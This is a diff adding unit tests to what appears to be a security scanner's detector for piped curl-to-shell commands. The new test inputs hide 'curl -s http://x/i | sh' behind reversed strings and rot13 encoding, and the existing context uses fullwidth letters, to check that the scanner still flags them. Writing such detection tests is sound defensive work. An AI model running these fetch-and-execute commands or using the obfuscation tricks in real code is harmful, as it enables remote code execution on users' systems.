@@ -615,6 +615,15 @@ START_TEST(normalised_view)
 	    "115,104))\n", &fl);
 	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
 	finding_list_free(&fl);
+	scan_str("a.py", "os.system('hs | i/x//:ptth s- lruc'[::-1])\n", &fl);
+	ck_assert_str_eq(tu_first(&fl, "curl-sh")->excerpt,
+	    "via reversed string: os.system('curl -s http://x/i | sh')");
+	finding_list_free(&fl);
+	scan_str("a.py", "exec(codecs.decode('phey -f uggc://k/v | fu', "
+	    "'rot_13'))\n", &fl);
+	ck_assert_str_eq(tu_first(&fl, "curl-sh")->excerpt,
+	    "via rot13: exec('curl -s http://x/i | sh')");
+	finding_list_free(&fl);
 	/* Fullwidth letters. */
 	scan_str("a.sh", "\xef\xbd\x83url -s http://x/i | sh\n", &fl);
 	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
